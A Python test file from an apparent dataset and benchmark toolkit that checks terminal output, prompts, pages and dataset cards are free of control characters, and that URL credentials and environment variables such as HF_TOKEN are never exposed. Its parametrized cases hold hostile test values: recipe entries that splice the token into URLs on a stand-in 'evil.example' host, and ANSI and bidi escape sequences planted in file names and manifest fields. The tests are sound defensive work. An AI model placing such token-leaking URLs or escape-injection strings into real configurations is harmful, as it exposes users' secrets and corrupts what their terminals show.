"""Control characters, secrets of URLs and variables of the environment stay out of terminals, prompts and cards."""

from __future__ import annotations

import ast
import json
import re
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner
from miniatures import shapes
from traps import drawn, edit

import lavida_bench.cli
from lavida_bench.config import recipe as run_recipes
from lavida_gen.building.build import build
from lavida_gen.cli import main
from lavida_gen.common.console import bar_title, echo, echo_json
from lavida_gen.common.errors import DataError, UserError
from lavida_gen.common.html_page import render_page
from lavida_gen.common.resources import resource
from lavida_gen.common.text import CONTROL, control_character, printable, without_controls, without_secrets
from lavida_gen.config import recipe as recipes
from lavida_gen.config.load_recipe import load_recipe
from lavida_gen.corpus.reader import open_corpus

ROOT = Path(__file__).resolve().parents[2]
RED = "\x1b[31m\x07red\x9b\u202egnp.\u2066\u2028"


def printed(*words: object, of: Any = main) -> Any:
    return CliRunner().invoke(of, [str(word) for word in words])


# ---- the terminal ---------------------------------------------------------------------------------------------------


def test_nothing_prints_but_the_console() -> None:
    """`click.echo`, `click.secho` and `print` in the packages; what makes data files by hand may print."""
    found = []
    for home in ("generator/lavida_gen", "harness/lavida_bench", "models/lavida"):
        for path in (ROOT / home).rglob("*.py"):
            if path.name in ("console.py", "make_wordnet.py") or path.parent.name == "tiny":
                continue
            for node in ast.walk(ast.parse(path.read_text("utf-8"))):
                if isinstance(node, ast.Call) and ast.unparse(node.func) in ("print", "click.echo", "click.secho"):
                    found.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert found == []


def test_the_console_prints_no_control_characters_and_no_secrets(capsys: pytest.CaptureFixture[str]) -> None:
    url = "s3://key:secret@bucket/corpus?token=abc"
    echo(f"{RED} at {url}\n\tsecond line")
    echo_json({"name": RED, "place": [url]})
    shown = capsys.readouterr().out
    assert "\n\tsecond line\n" in shown
    assert not CONTROL.search(shown)
    assert "secret" not in shown
    assert "abc" not in shown
    assert json.loads(shown.splitlines()[-1]) == {"name": RED, "place": ["s3://bucket/corpus"]}
    assert CONTROL.search(bar_title(RED)) is None


def test_titles_of_progress_bars_are_no_markup() -> None:
    from rich.markup import render

    for text in ("build [red]x[/red]", "[/]", "[link=https://example.org]x", "a\\[b]", "[1] [A b]"):
        assert render(bar_title(text)).plain == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("https://u:p@h/x?tok=1", "https://h/x"),
        ("cannot read 'https://u:p@ss@h:80/x/y?sig=a&b=c', or s3://k:s@b/x; x", "cannot read 'https://h:80/x/y', or s3://b/x; x"),
        ("rtsp://admin:a/b@10.0.0.7:554/stream", "rtsp://10.0.0.7:554/stream"),
        ("simplecache::https://u:p@h/x, http://u:p@g", "simplecache::https://h/x, http://g"),
        ("(https://a/b?c=d)", "(https://a/b)"),
        ("http://[::1]:80/x@y?z", "http://[::1]:80/x@y"),
        ("hf://datasets/o/n@main/corpus.json: is missing", "hf://datasets/o/n@main/corpus.json: is missing"),
        ("https://cocodataset.org/#download", "https://cocodataset.org/#download"),
        ("no address: a@b?", "no address: a@b?"),
    ],
)  # fmt: skip
def test_urls_lose_their_secrets(text: str, shown: str) -> None:
    assert without_secrets(text) == shown


def test_letters_of_all_languages_are_no_control_characters() -> None:
    for text in ("Übergrößenträger", "کتاب\u200cخانه", "전기 자전거", "日本\u3000語", "👩\u200d🚒", "a\u00a0b"):
        assert printable(text) == text == without_controls(text)
        assert control_character({"a": [text]}) == ""


# ---- files that somebody else wrote ---------------------------------------------------------------------------------


@pytest.mark.parametrize("place", ["about", "sources.0.keep_names", "prompts.questions"])
def test_a_recipe_with_an_escape_sequence(place: str, tmp_path: Path) -> None:
    plain: dict[str, Any] = {
        "name": "mine", "samples": 4, "sources": [{"name": "street", "scenes": 2}], "exposures": ["absent"],
        "prompts": {"questions": ["any of {names}?"], "answers": ["<SEG>"]},
    }  # fmt: skip
    if place == "about":
        plain["about"] = RED
    elif place == "prompts.questions":
        plain["prompts"]["questions"] = [f"{RED} {{names}}"]
    else:
        plain["sources"][0]["keep_names"] = [RED]
    (tmp_path / "mine.yaml").write_text(yaml.safe_dump(plain))
    done = printed("check", "--recipe", tmp_path / "mine.yaml")
    assert done.exit_code == 2
    assert f"{place}" in done.output
    assert "holds the control character U+001B" in done.output
    assert not CONTROL.search(done.output)


def test_a_recipe_of_a_run_with_an_escape_sequence() -> None:
    plain = {"name": "mine", "about": RED, "model": {"preset": "tiny"}}
    with pytest.raises(UserError, match=r"about: holds the control character U\+001B"):
        run_recipes.parse(plain)


@pytest.fixture(name="corpus", scope="module")
def corpus_of_odd_names(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A corpus of a data set whose category, file name and licence have control characters."""
    root = tmp_path_factory.mktemp("odd")
    source = drawn("coco", root / "coco")
    assert len(source)

    def spoil(plain: Any) -> None:
        plain["categories"][0]["name"] = f"per{RED}son"
        plain["licenses"][0]["name"] = f"Attribution{RED}"

    edit(root / "coco" / "annotations" / "instances_train2017.json", spoil)
    recipe = load_recipe(
        {
            "name": "odd", "samples": 6, "val": 0, "limits": {"min_area": 0.0}, "anomaly_ratio": 0.5,
            "sources": [{"name": "coco", "root": str(root / "coco")}], "exposures": ["absent", "relabel"],
        }
    )  # fmt: skip
    build(recipe, root / "corpus")
    return root / "corpus"


def test_names_of_data_sets_reach_prompts_and_cards_without_control_characters(corpus: Path) -> None:
    opened = open_corpus(corpus)
    texts = [json.dumps(sample.record, ensure_ascii=False) for sample in opened.samples_by_index(range(6))]
    assert any("per" in text and "son" in text for text in texts)
    plain = [json.loads(text) for text in texts]
    assert control_character(plain) == ""
    for file in ("README.md", "LICENSE", "corpus.json"):
        assert not CONTROL.search((corpus / file).read_text("utf-8"))


def test_a_manifest_with_an_escape_sequence(corpus: Path, tmp_path: Path) -> None:
    import shutil

    shutil.copytree(corpus, tmp_path / "c")
    edit(tmp_path / "c" / "corpus.json", lambda plain: plain["sources"][0].update(attribution=RED))
    for verb in ("verify", "stats", "show"):
        done = printed(verb, tmp_path / "c", *(["1"] if verb == "show" else []))
        assert done.exit_code == 1
        assert "sources.0.attribution: holds the control character U+001B" in done.output
        assert not CONTROL.search(done.output)


def test_a_record_with_an_escape_sequence(corpus: Path, tmp_path: Path) -> None:
    import shutil

    shutil.copytree(corpus, tmp_path / "c")
    shard = tmp_path / "c" / open_corpus(corpus).manifest.shards[0].file
    data = shard.read_bytes()
    name = re.search(rb'"names":\s*\["([^"]{8,})"', data)
    assert name is not None
    spoilt = name[1][:1] + rb"\u001b" + name[1][7:]
    shard.write_bytes(data.replace(name[1], spoilt))
    with pytest.raises(DataError, match=r"holds the control character U\+001B"):
        list(open_corpus(tmp_path / "c").samples_by_index(range(6)))


def test_file_names_with_escape_sequences(tmp_path: Path) -> None:
    plain = shapes_folder(tmp_path)
    recipe = tmp_path / "r.yaml"
    recipe.write_text(yaml.safe_dump({"name": "mine", "samples": 2, "sources": [plain], "exposures": ["absent"]}))
    done = printed("check", "--recipe", recipe, "--set", "val=0")
    assert not CONTROL.search(done.output)


def shapes_folder(root: Path) -> dict[str, Any]:
    """Source `folder` with a file whose name has an escape sequence."""
    import miniatures

    options = miniatures.draw("folder", root)
    picture = next(path for path in sorted(root.rglob("*")) if path.suffix in (".jpg", ".png"))
    picture.rename(picture.with_name(f"\x1b[31m{picture.name}"))
    return {"name": "folder", **{key: str(v) if isinstance(v, Path) else v for key, v in options.items()}}


def test_a_video_with_an_escape_sequence_in_its_name(tmp_path: Path) -> None:
    folder = tmp_path / "videos" / "a\x1b[31mb"
    for number in range(3):
        shapes.jpeg(folder / f"{number:04d}.jpg", number)
    (tmp_path / "labels.csv").write_text(f"video,start,end\n{folder.name},1,2\nno\x1b[31msuch,1,2\n")
    for more in ((), ("--json",)):
        done = printed("check", "folder", "--root", tmp_path, *more, of=lavida_bench.cli.main)
        assert "such" in done.output
        assert not CONTROL.search(done.output)


def test_pages_show_no_control_characters() -> None:
    page = render_page(resource("preview.html"), RED, {"texts": [RED]}, resource("preview.css"))
    assert not CONTROL.search(page)
    assert "\\u001b" not in page
    assert "\\u202e" not in page


# ---- variables of the environment -----------------------------------------------------------------------------------

SECRET = "hf_secretOfTheReader"


@pytest.fixture(autouse=True)
def _a_token(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HF_TOKEN", SECRET)
    monkeypatch.setenv("CORPORA", "s3://bucket/corpora")
    monkeypatch.setenv("MODELS", "/models")


def run_of(**changes: Any) -> dict[str, Any]:
    return {"name": "mine", "model": {"preset": "tiny"}, "data": [{"corpus": "c"}], "fit": {"steps": 1}, **changes}


@pytest.mark.parametrize(
    "changes",
    [
        {"about": "by ${HF_TOKEN}"},
        {"data": [{"corpus": "https://evil.example/${HF_TOKEN}/c"}]},
        {"data": [{"corpus": "${NOWHERE:-https://evil.example/}${HF_TOKEN}"}]},
        {"data": [{"corpus": "${NOWHERE:-https}://evil.example/${HF_TOKEN}"}]},
        {"model": {"path": "evil/${HF_TOKEN}"}},
        {"model": {"path": "${NOWHERE:-evil}/${HF_TOKEN}"}},
        {"model": {"parts": {"mllm": "evil/${HF_TOKEN}", "sam": "a", "text": "b"}}},
        {"score": [{"benchmark": "street", "names": "${HF_TOKEN},dog"}]},
        {"score": [{"benchmark": "street", "method": "${HF_TOKEN}"}]},
        {"score": [{"benchmark": "street", "options": {"names": "${HF_TOKEN}"}}]},
    ],
)
def test_a_run_of_a_stranger_sends_no_variable_anywhere(changes: dict[str, Any]) -> None:
    with pytest.raises(UserError, match=r"is not replaced here|would send a variable|is no absolute path") as stopped:
        run_recipes.parse(run_of(**changes))
    assert SECRET not in str(stopped.value)


def test_variables_of_places_on_this_machine() -> None:
    changes = {
        "data": [{"corpus": "${CORPORA}/street"}, {"corpus": "${NOWHERE:-corpora/a}"}],
        "model": {"path": "${MODELS}/a"},
    }
    recipe = run_recipes.parse(run_of(**changes))
    assert [entry.corpus for entry in recipe.data] == ["s3://bucket/corpora/street", "corpora/a"]
    assert recipe.model.path == "/models/a"


def test_stored_recipes_have_no_secrets() -> None:
    recipe = run_recipes.parse(run_of(data=[{"corpus": "https://ann:pw@example.org/c?sig=1"}]))
    assert recipe.stored()["data"][0]["corpus"] == "https://example.org/c"
    other = run_recipes.parse(run_of(data=[{"corpus": "https://bob:no@example.org/c?sig=2"}]))
    assert recipe.fit_identity() == other.fit_identity()


@pytest.mark.parametrize("key", ["about", "name", "prompts.questions", "kinds"])
def test_a_recipe_of_a_corpus_publishes_no_variable(key: str) -> None:
    plain: dict[str, Any] = {"name": "mine", "samples": 1, "sources": ["street"], "exposures": ["absent"]}
    value: Any = "${HF_TOKEN}"
    plain.update({"prompts": {"questions": ["${HF_TOKEN} {names}"], "answers": ["<SEG>"]}} if "." in key else {})
    if "." not in key:
        plain[key] = {"a": [value]} if key == "kinds" else value
    with pytest.raises(UserError) as stopped:
        recipes.parse(plain)
    assert SECRET not in str(stopped.value)
